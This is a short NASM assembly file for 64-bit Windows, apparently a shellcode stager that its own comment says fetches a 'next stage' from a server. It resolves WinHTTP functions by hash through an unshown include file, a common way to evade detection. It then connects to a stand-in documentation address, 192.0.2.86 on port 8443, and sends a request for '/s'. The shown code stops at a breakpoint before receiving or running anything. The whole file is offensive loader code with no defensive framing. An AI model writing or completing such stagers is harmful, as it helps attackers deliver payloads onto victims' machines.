; Windows, 64 bit: asks a server for its next stage with winhttp, whose texts are UTF-16.
bits 64
%include "windows64_calls.inc"
HASH64 open, 'WinHttpOpen'
HASH64 connect_to, 'WinHttpConnect'
HASH64 request, 'WinHttpOpenRequest'
HASH64 send, 'WinHttpSendRequest'
	RESOLVER64
	lea rcx, [rel library]
	CALL64 rbx, load_library
	mov r12, rax
	xor ecx, ecx
	xor edx, edx
	xor r8d, r8d
	xor r9d, r9d
	CALL64 r12, open
	mov rcx, rax
	lea rdx, [rel server]
	mov r8d, 8443
	xor r9d, r9d
	CALL64 r12, connect_to
	mov rcx, rax
	xor edx, edx
	lea r8, [rel object]
	xor r9d, r9d
	CALL64 r12, request
	mov rcx, rax
	xor edx, edx
	xor r8d, r8d
	xor r9d, r9d
	CALL64 r12, send
	int3
library: db 'winhttp', 0
server:	db '1', 0, '9', 0, '2', 0, '.', 0, '0', 0, '.', 0, '2', 0, '.', 0, '8', 0, '6', 0, 0, 0
object:	db '/', 0, 's', 0, 0, 0
